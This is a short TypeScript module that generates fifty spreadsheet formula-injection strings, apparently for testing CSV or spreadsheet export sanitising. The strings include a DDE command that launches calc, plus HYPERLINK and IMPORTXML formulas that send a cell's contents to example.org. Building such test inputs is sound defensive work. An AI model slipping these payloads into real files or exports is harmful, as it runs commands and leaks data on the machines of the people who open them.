const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', ' =', '\t=', '＝'];
const BODIES = [
  '1+1',
  'cmd|’ /C calc’!A0',
  'HYPERLINK("https://example.org/?"&A1;"cliquez")',
  'SUM(1;2)*IMPORTXML("https://example.org",A1)',
  'Étreux "le Grand";\r\n02830,\'x\'',
];

/** Fifty texts that a spreadsheet would run, change or break apart if they stood as they are in a cell. */
export const formulaPayloads: readonly string[] = STARTS.flatMap((start) => BODIES.map((body) => start + body));
